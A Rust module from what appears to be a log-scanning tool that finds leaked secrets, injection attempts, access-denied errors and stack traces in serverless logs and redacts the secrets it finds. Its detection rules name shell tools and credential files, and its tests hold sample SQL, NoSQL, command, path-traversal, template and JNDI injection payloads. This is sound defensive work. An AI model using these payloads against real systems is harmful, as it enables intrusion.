//! Security events in log lines: secrets written to logs, injection attempts in logged
//! events, permission errors, and stack traces in logged API responses.
//!
//! Every line passes one Aho-Corasick prefilter of trigger literals; only the rules whose
//! triggers occur run their regex.
//!
//! An injection *attempt* is attacker-controlled input seen in a request, not a query or
//! a command the application logged: the injection rules only look at lines that carry
//! request data (an API Gateway / function URL event, a body, headers, a URL with a query
//! string, which is URL-decoded first), and the SQL rule skips the statement logs of ORMs
//! and drivers (Sequelize `Executing (…)`, SQLAlchemy echo, Hibernate `show_sql`, Prisma
//! `prisma:query`, bare SQL statements). That keeps the scan off the hot path's budget (most
//! lines trigger nothing). Details are built from redacted text: a secret never leaves
//! this module unredacted.

use std::borrow::Cow;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use regex::Regex;
use serde::Serialize;
use warden_diagnostics::Risk;

use crate::invocation::serialize_time;

/// One security-relevant line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct SecurityEvent {
    pub risk: Risk,
    /// What was found, e.g. `aws-access-key`, `sql-injection`, `access-denied`.
    pub kind: &'static str,
    pub function: String,
    pub request_id: Option<String>,
    #[serde(serialize_with = "serialize_time")]
    pub timestamp: Option<i64>,
    /// What and where, with secrets redacted.
    pub detail: String,
    /// The [`crate::Invocation::key`] of the invocation the line belongs to, if any.
    pub invocation_key: Option<String>,
}

/// A rule's verdict on one line, before the assembler adds function and request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SecurityHit {
    pub risk: Risk,
    pub kind: &'static str,
    pub detail: String,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Detail {
    /// A secret: show only its kind, a short public prefix and its length.
    Secret,
    /// Show the matched text in context, redacted.
    Snippet,
    /// AccessDenied: name the action and resource when the message has them.
    Permission,
    /// Stack trace in a response: name the status code.
    Response,
}

struct Rule {
    risk: Risk,
    kind: &'static str,
    triggers: &'static [&'static str],
    pattern: &'static str,
    detail: Detail,
    /// For secrets: what a match is replaced with by [`SecurityScanner::redact`].
    secret: bool,
}

const RULES: &[Rule] = &[
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "aws-access-key",
        triggers: &["AKIA", "ASIA"],
        pattern: r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "aws-secret-key",
        triggers: &["secret_access_key", "secretaccesskey"],
        pattern: r#"(?i)aws_?secret_?access_?key["']?\s*[:=]\s*["']?[A-Za-z0-9/+=]{40}"#,
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "private-key",
        triggers: &["PRIVATE KEY-----"],
        pattern: r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY-----(?:[^-]{0,8000}-----END (?:[A-Z0-9]+ )*PRIVATE KEY-----)?",
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "jwt",
        triggers: &["eyJ"],
        pattern: r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "api-token",
        triggers: &[
            "ghp_",
            "gho_",
            "ghu_",
            "ghs_",
            "ghr_",
            "github_pat_",
            "xoxb-",
            "xoxp-",
            "xoxa-",
            "xoxs-",
            "k_live_",
            "AIza",
            "glpat-",
            "npm_",
        ],
        pattern: r"\b(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,}|xox[abps]-[A-Za-z0-9-]{10,}|[sr]k_live_[0-9A-Za-z]{20,}|AIza[0-9A-Za-z_-]{35}|glpat-[0-9A-Za-z_-]{20}|npm_[A-Za-z0-9]{36})",
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::InsecureSecrets,
        kind: "password",
        triggers: &["password", "passwd", "pwd"],
        // The value is group 1; `password=***`, `password: null` and friends are not secrets.
        pattern: r#"(?i)\b(?:password|passwd|pwd)["']?\s*[:=]\s*["']?([^\s"',;&}\]]{3,})"#,
        detail: Detail::Secret,
        secret: true,
    },
    Rule {
        risk: Risk::EventInjection,
        kind: "sql-injection",
        triggers: &[
            "' or",
            "'or",
            "' and",
            "union",
            "drop table",
            "sleep(",
            "waitfor",
            "1=1",
            "'--",
            "';",
            "%27",
        ],
        pattern: r"(?i)'\s*(?:or|and)\s+'?\w*'?\s*=\s*'?\w*|\bunion\s+(?:all\s+)?select\b|;\s*drop\s+table\b|\b(?:pg_)?sleep\(\s*\d+\s*\)|\bwaitfor\s+delay\b|\bor\s+1\s*=\s*1\b|'\s*--(?:\s|$|\x22|'|\\)|'\s*;\s*(?:drop|delete|insert|update|select|shutdown|exec)\b",
        detail: Detail::Snippet,
        secret: false,
    },
    Rule {
        risk: Risk::EventInjection,
        kind: "nosql-injection",
        triggers: &["\"$", "[$", "'$"],
        pattern: r#"["']\$(?:ne|eq|gt|gte|lt|lte|where|regex|in|nin|or|and|not|exists|expr)\\?["']\s*:|\[\$(?:ne|eq|gt|gte|lt|lte|where|regex|in|nin|exists)\]"#,
        detail: Detail::Snippet,
        secret: false,
    },
    Rule {
        risk: Risk::EventInjection,
        kind: "command-injection",
        triggers: &[
            "whoami", "uname", "/bin/", "curl ", "wget ", "cat ", "nc ", "rm -", "chmod ",
            "nslookup", "ping ", "bash ",
        ],
        pattern: r"(?:[;|`]|&&|\$\()\s*(?:cat|curl|wget|nc|ncat|bash|sh|/bin/sh|/bin/bash|rm|whoami|uname|chmod|ping|nslookup)(?:\s|\)|`|$)",
        detail: Detail::Snippet,
        secret: false,
    },
    Rule {
        risk: Risk::EventInjection,
        kind: "path-traversal",
        triggers: &[
            "../",
            "..\\",
            "%2e%2e",
            "..%2f",
            "..%5c",
            "/etc/passwd",
            "/proc/self",
            "win.ini",
        ],
        pattern: r"(?i)(?:\.\./){2,}|(?:\.\.\\){2,}|%2e%2e(?:%2f|%5c|/)|\.\.%2f|\.\.%5c|/etc/passwd|/proc/self/environ|\\windows\\win\.ini",
        detail: Detail::Snippet,
        secret: false,
    },
    Rule {
        risk: Risk::EventInjection,
        kind: "template-injection",
        triggers: &["{{", "${", "<%=", "#{"],
        pattern: r"\{\{\s*\d+\s*[*+]\s*\d+\s*\}\}|\$\{\s*\d+\s*[*+]\s*\d+\s*\}|(?i:\$\{jndi:)|\{\{[^}]{0,80}(?:__class__|__globals__|__import__|__builtins__|config\.items)[^}]{0,80}\}\}|<%=\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}",
        detail: Detail::Snippet,
        secret: false,
    },
    Rule {
        risk: Risk::OverPrivileged,
        kind: "access-denied",
        triggers: &[
            "AccessDenied",
            "not authorized to",
            "UnauthorizedOperation",
            "AuthorizationError",
            "explicit deny",
        ],
        pattern: r"AccessDenied(?:Exception)?|(?i:is not authorized to perform)|(?i:not authorized to access)|UnauthorizedOperation|AuthorizationError|(?i:with an explicit deny)",
        detail: Detail::Permission,
        secret: false,
    },
    Rule {
        risk: Risk::ImproperErrorHandling,
        kind: "stack-trace-in-response",
        triggers: &["statusCode"],
        pattern: r#"(?s)"?statusCode"?\s*[:=]\s*"?(\d{3}).*(?:Traceback \(most recent call last\)|"stackTrace"|\\"stackTrace\\"|"stack"\s*:|\\"stack\\"|\\n\s+at |\n\s+at [\w.$<>]+ ?\(|\.java:\d+\)|Exception in thread|File \\"/var/task)"#,
        detail: Detail::Response,
        secret: false,
    },
];

/// Scans lines for security events. Build once; scanning is `&self`.
pub struct SecurityScanner {
    prefilter: AhoCorasick,
    /// Rule index of each prefilter pattern.
    trigger_rule: Vec<usize>,
    regexes: Vec<Regex>,
    action: Regex,
    resource: Regex,
}

impl Default for SecurityScanner {
    fn default() -> Self {
        let mut literals = Vec::new();
        let mut trigger_rule = Vec::new();
        for (index, rule) in RULES.iter().enumerate() {
            for trigger in rule.triggers {
                literals.push(*trigger);
                trigger_rule.push(index);
            }
        }
        let prefilter = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            // A full DFA: the fastest per byte, and small for a few dozen short literals.
            .kind(Some(AhoCorasickKind::DFA))
            .build(&literals)
            .expect("security triggers are valid literals");
        SecurityScanner {
            prefilter,
            trigger_rule,
            regexes: RULES
                .iter()
                .map(|r| Regex::new(r.pattern).expect("security patterns compile"))
                .collect(),
            action: Regex::new(r"(?i)perform:?\s+([A-Za-z0-9-]+:[A-Za-z0-9*]+)").expect("valid"),
            resource: Regex::new(r"(?i)on resource:?\s+(arn:[^\s,;]+)").expect("valid"),
        }
    }
}

impl SecurityScanner {
    /// Every trigger literal with the rule it belongs to, for callers that fold them into
    /// a combined scan and then call [`SecurityScanner::scan_rules`].
    pub fn trigger_literals() -> Vec<(&'static str, usize)> {
        RULES
            .iter()
            .enumerate()
            .flat_map(|(index, rule)| rule.triggers.iter().map(move |t| (*t, index)))
            .collect()
    }

    fn triggered(&self, text: &str) -> u32 {
        let mut rules = 0u32;
        for found in self.prefilter.find_overlapping_iter(text) {
            rules |= 1 << self.trigger_rule[found.pattern().as_usize()];
        }
        rules
    }

    /// Every rule that matches `text`, at most one hit per rule.
    pub fn scan(&self, text: &str, hits: &mut Vec<SecurityHit>) {
        self.scan_rules(text, self.triggered(text), hits);
    }

    /// Like [`SecurityScanner::scan`], for the rules whose bit is set in `rules` (bit i =
    /// rule i of [`SecurityScanner::trigger_literals`]): the triggers were already found.
    pub fn scan_rules(&self, text: &str, mut rules: u32, hits: &mut Vec<SecurityHit>) {
        if rules == 0 {
            return;
        }
        let injection_mask = RULES
            .iter()
            .enumerate()
            .filter(|(_, r)| r.risk == Risk::EventInjection)
            .fold(0u32, |m, (i, _)| m | 1 << i);
        let mut decoded = None;
        if rules & injection_mask != 0 || text.contains('%') {
            if carries_request_data(text) {
                if text.contains('%') {
                    let plain = percent_decode(text);
                    rules |= self.triggered(&plain) & injection_mask;
                    decoded = Some(plain);
                }
            } else {
                rules &= !injection_mask;
            }
        }
        if rules == 0 {
            return;
        }
        for (index, rule) in RULES.iter().enumerate() {
            if rules & (1 << index) == 0 {
                continue;
            }
            let text = match (&decoded, rule.risk) {
                (Some(plain), Risk::EventInjection) => plain.as_str(),
                _ => text,
            };
            if rule.kind == "sql-injection" && is_statement_log(text) {
                continue;
            }
            let Some(captures) = self.regexes[index]
                .captures_iter(text)
                .find(|c| rule.kind != "password" || !is_placeholder(&c[1]))
            else {
                continue;
            };
            let found = captures.get(0).expect("group 0 always exists");
            let detail = match rule.detail {
                Detail::Secret => {
                    let secret = captures.get(1).unwrap_or(found).as_str();
                    format!(
                        "{} written to the log: {}",
                        describe_secret(rule.kind),
                        mask_secret(rule.kind, secret)
                    )
                }
                Detail::Snippet => format!(
                    "{} in a logged event: {}",
                    describe_injection(rule.kind),
                    self.snippet(text, found.start(), found.end())
                ),
                Detail::Permission => {
                    let action = self.action.captures(text).map(|c| c[1].to_owned());
                    let resource = self
                        .resource
                        .captures(text)
                        .map(|c| self.redact(&c[1]).into_owned());
                    match (action, resource) {
                        (Some(a), Some(r)) => {
                            format!("permission denied for {a} on {r}: grant it or stop calling it")
                        }
                        (Some(a), None) => {
                            format!("permission denied for {a}: grant it or stop calling it")
                        }
                        _ => format!(
                            "permission denied: {}",
                            self.snippet(text, found.start(), found.end())
                        ),
                    }
                }
                Detail::Response => format!(
                    "an API response with status {} carries a stack trace to the client",
                    &captures[1]
                ),
            };
            hits.push(SecurityHit {
                risk: rule.risk,
                kind: rule.kind,
                detail,
            });
        }
    }

    /// `text` with every secret replaced by `[REDACTED:kind]`. Borrowed when nothing is
    /// secret, which is almost always.
    pub fn redact<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let rules = self.triggered(text);
        if rules == 0 {
            return Cow::Borrowed(text);
        }
        let mut out = Cow::Borrowed(text);
        for (index, rule) in RULES.iter().enumerate() {
            if !rule.secret || rules & (1 << index) == 0 {
                continue;
            }
            let regex = &self.regexes[index];
            if !regex.is_match(&out) {
                continue;
            }
            let replaced = regex
                .replace_all(&out, |c: &regex::Captures<'_>| match c.get(1) {
                    // Keep the key of `password=value`, drop the value.
                    Some(value) if rule.kind == "password" => {
                        let whole = c.get(0).expect("group 0");
                        format!(
                            "{}[REDACTED:password]",
                            &whole.as_str()[..value.start() - whole.start()]
                        )
                    }
                    _ => format!("[REDACTED:{}]", rule.kind),
                })
                .into_owned();
            out = Cow::Owned(replaced);
        }
        out
    }

    /// Up to 40 characters either side of the match, one line, secrets redacted.
    fn snippet(&self, text: &str, start: usize, end: usize) -> String {
        let from = floor_char(text, start.saturating_sub(40));
        let to = ceil_char(text, (end + 40).min(text.len()));
        let mut snippet = String::new();
        if from > 0 {
            snippet.push('…');
        }
        snippet.push_str(&text[from..to].replace(['\n', '\r', '\t'], " "));
        if to < text.len() {
            snippet.push('…');
        }
        self.redact(&snippet).into_owned()
    }
}

/// Markers of request data in a logged line: an API Gateway, ALB or function URL event, a
/// request body or headers, or a URL with a query string.
fn carries_request_data(text: &str) -> bool {
    const MARKERS: &[&str] = &[
        "queryStringParameters",
        "pathParameters",
        "rawQueryString",
        "rawPath",
        "routeKey",
        "httpMethod",
        "requestContext",
        "\"body\"",
        "'body'",
        "\"headers\"",
        "'headers'",
        "User-Agent",
        "user-agent",
    ];
    if MARKERS.iter().any(|m| text.contains(m)) {
        return true;
    }
    // `GET /search?q=…`, `https://host/path?id=…&x=…`
    text.match_indices(['?', '&']).any(|(at, _)| {
        let rest = &text[at + 1..];
        let name_end = rest
            .find(|c: char| {
                !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '[' | ']'))
            })
            .unwrap_or(rest.len());
        name_end > 0 && rest[name_end..].starts_with('=')
    })
}

/// A statement an ORM or driver logged: the application's query, not a request.
fn is_statement_log(text: &str) -> bool {
    const ORM: &[&str] = &[
        "Executing (",
        "sqlalchemy.engine",
        "Hibernate: ",
        "prisma:query",
        "knex:query",
        "TypeORM",
        "query: SELECT",
        "query: INSERT",
        "query: UPDATE",
        "query: DELETE",
    ];
    if ORM.iter().any(|m| text.contains(m)) {
        return true;
    }
    let head = text.trim_start();
    let word = head
        .split(|c: char| !c.is_ascii_alphabetic())
        .next()
        .unwrap_or("");
    ["SELECT", "INSERT", "UPDATE", "DELETE", "WITH", "MERGE"]
        .iter()
        .any(|k| word.eq_ignore_ascii_case(k))
}

/// `%27` → `'`, `+` → space: how a query string reads once the server decodes it.
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'%' => {
                let hex = |b: u8| (b as char).to_digit(16);
                match (
                    bytes.get(i + 1).and_then(|&b| hex(b)),
                    bytes.get(i + 2).and_then(|&b| hex(b)),
                ) {
                    (Some(h), Some(l)) => {
                        out.push((h * 16 + l) as u8);
                        i += 3;
                        continue;
                    }
                    _ => out.push(b'%'),
                }
            }
            b'+' => out.push(b' '),
            b => out.push(b),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn is_placeholder(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    value
        .chars()
        .all(|c| c == '*' || c == 'x' || c == 'X' || c == '.')
        || matches!(
            lower.as_str(),
            "null"
                | "none"
                | "undefined"
                | "redacted"
                | "[redacted]"
                | "<redacted>"
                | "true"
                | "false"
                | "hidden"
                | "masked"
        )
        || lower.starts_with("[redacted")
        || lower.starts_with("${")
        || lower.starts_with("{{")
}

fn describe_secret(kind: &str) -> &'static str {
    match kind {
        "aws-access-key" => "an AWS access key id",
        "aws-secret-key" => "an AWS secret access key",
        "private-key" => "a private key",
        "jwt" => "a JSON Web Token",
        "api-token" => "an API token",
        _ => "a password",
    }
}

fn describe_injection(kind: &str) -> &'static str {
    match kind {
        "sql-injection" => "SQL injection pattern",
        "nosql-injection" => "NoSQL operator injection",
        "command-injection" => "shell command injection",
        "path-traversal" => "path traversal",
        _ => "template injection",
    }
}

/// Keeps only what is safe to show: a well-known public prefix and the length.
fn mask_secret(kind: &str, secret: &str) -> String {
    let prefix_len = match kind {
        "aws-access-key" => 4,
        "jwt" => 3,
        "api-token" => secret.find(['_', '-']).map_or(0, |p| p + 1).min(11),
        _ => 0,
    };
    let prefix = &secret[..floor_char(secret, prefix_len)];
    format!("{prefix}[REDACTED {} chars]", secret.chars().count())
}

fn floor_char(text: &str, mut at: usize) -> usize {
    while !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

fn ceil_char(text: &str, mut at: usize) -> usize {
    while !text.is_char_boundary(at) {
        at += 1;
    }
    at
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        SecurityScanner::default().scan(text, &mut hits);
        hits.iter().map(|h| h.kind).collect()
    }

    #[test]
    fn secrets_are_found_and_never_shown() {
        let scanner = SecurityScanner::default();
        let text = "config loaded key=AKIAIOSFODNN7EXAMPLE password=hunter22 token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
        let mut hits = Vec::new();
        scanner.scan(text, &mut hits);
        let found: Vec<_> = hits.iter().map(|h| h.kind).collect();
        assert_eq!(found, vec!["aws-access-key", "jwt", "password"]);
        for hit in &hits {
            assert_eq!(hit.risk, Risk::InsecureSecrets);
            assert!(!hit.detail.contains("IOSFODNN7EXAMPLE"), "{}", hit.detail);
            assert!(!hit.detail.contains("hunter22"), "{}", hit.detail);
            assert!(!hit.detail.contains("dozjgNryP4J3"), "{}", hit.detail);
        }
        let redacted = scanner.redact(text);
        assert!(
            !redacted.contains("IOSFODNN7EXAMPLE")
                && !redacted.contains("hunter22")
                && !redacted.contains("dozjg")
        );
        assert!(
            redacted.contains("password=[REDACTED:password]"),
            "{redacted}"
        );
    }

    #[test]
    fn placeholders_are_not_passwords() {
        assert!(kinds("password=*** user=bob").is_empty());
        assert!(kinds(r#"{"password": null}"#).is_empty());
        assert_eq!(kinds(r#"{"password": "s3cr3t!"}"#), vec!["password"]);
    }

    #[test]
    fn injections() {
        assert_eq!(
            kinds(r#"{"queryStringParameters": {"id": "1' OR '1'='1"}}"#),
            vec!["sql-injection"]
        );
        assert_eq!(
            kinds(r#"{"body": "{\"username\": {\"$ne\": null}}"}"#),
            vec!["nosql-injection"]
        );
        assert_eq!(
            kinds(r#"{"queryStringParameters": {"host": "example.com; cat /etc/hosts"}}"#),
            vec!["command-injection"]
        );
        assert_eq!(
            kinds(r#"{"pathParameters": {"file": "../../../etc/passwd"}}"#),
            vec!["path-traversal"]
        );
        assert_eq!(
            kinds(r#"{"body": "{\"name\": \"{{7*7}}\"}"}"#),
            vec!["template-injection"]
        );
        assert_eq!(
            kinds(r#"{"headers": {"User-Agent": "${jndi:ldap://x/a}"}}"#),
            vec!["template-injection"]
        );
        // URL-encoded in a query string.
        assert_eq!(
            kinds("GET /items?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1"),
            vec!["sql-injection"]
        );
        // The same payloads outside a request are the application's own text.
        assert!(kinds(r#"{"file": "../../../etc/passwd"}"#).is_empty());
        assert!(kinds("user input was 1' OR '1'='1").is_empty());
        // Inside a JSON-encoded body the closing quote is escaped.
        assert_eq!(
            kinds(r#"{"routeKey": "POST /login", "body": "{\"user\": \"admin'--\"}"}"#),
            vec!["sql-injection"]
        );
        // Ordinary text stays quiet.
        assert!(kinds("user=bob&id=42&sort=asc; order confirmed, can't or won't").is_empty());
        assert!(kinds("Root=1-5e61292c;Parent=c657b77d9514f70c;Sampled=1").is_empty());
    }

    #[test]
    fn orm_statement_logs_are_not_injection_attempts() {
        for line in [
            r#"Executing (default): SELECT "id", "email" FROM "users" AS "User" WHERE "User"."email" = 'bob@example.com';"#,
            r#"Executing (default): INSERT INTO "orders" ("id","note") VALUES (DEFAULT,'it''s -- fragile');"#,
            "INFO sqlalchemy.engine.Engine SELECT users.id FROM users WHERE users.name = ? UNION SELECT admins.id FROM admins",
            "Hibernate: select u1_0.id from users u1_0 where u1_0.email=? and u1_0.active=1 or 1=1",
            r#"prisma:query SELECT "public"."User"."id" FROM "public"."User" WHERE "public"."User"."email" = $1 LIMIT $2 OFFSET $3"#,
            "SELECT * FROM t WHERE a = 'x'; DROP TABLE tmp_import;",
        ] {
            assert!(kinds(line).is_empty(), "{line}: {:?}", kinds(line));
        }
        // A request whose body carries an ORM-looking string is still a request.
        assert_eq!(
            kinds(r#"{"httpMethod": "POST", "body": "name=x' OR '1'='1"}"#),
            vec!["sql-injection"]
        );
    }

    #[test]
    fn access_denied_names_the_action() {
        let mut hits = Vec::new();
        SecurityScanner::default().scan("AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/r/f is not authorized to perform: dynamodb:PutItem on resource: arn:aws:dynamodb:us-east-1:123456789012:table/Orders", &mut hits);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].risk, Risk::OverPrivileged);
        assert!(
            hits[0].detail.contains(
                "dynamodb:PutItem on arn:aws:dynamodb:us-east-1:123456789012:table/Orders"
            ),
            "{}",
            hits[0].detail
        );
    }

    #[test]
    fn stack_trace_in_response() {
        let mut hits = Vec::new();
        SecurityScanner::default().scan(r#"response: {"statusCode": 500, "body": "{\"error\": \"Traceback (most recent call last):\\n  File \\\"/var/task/app.py\\\"\"}"}"#, &mut hits);
        assert_eq!(
            hits.iter().map(|h| h.kind).collect::<Vec<_>>(),
            vec!["stack-trace-in-response"]
        );
        assert!(hits[0].detail.contains("status 500"));
        assert!(kinds(r#"{"statusCode": 200, "body": "ok"}"#).is_empty());
    }
}
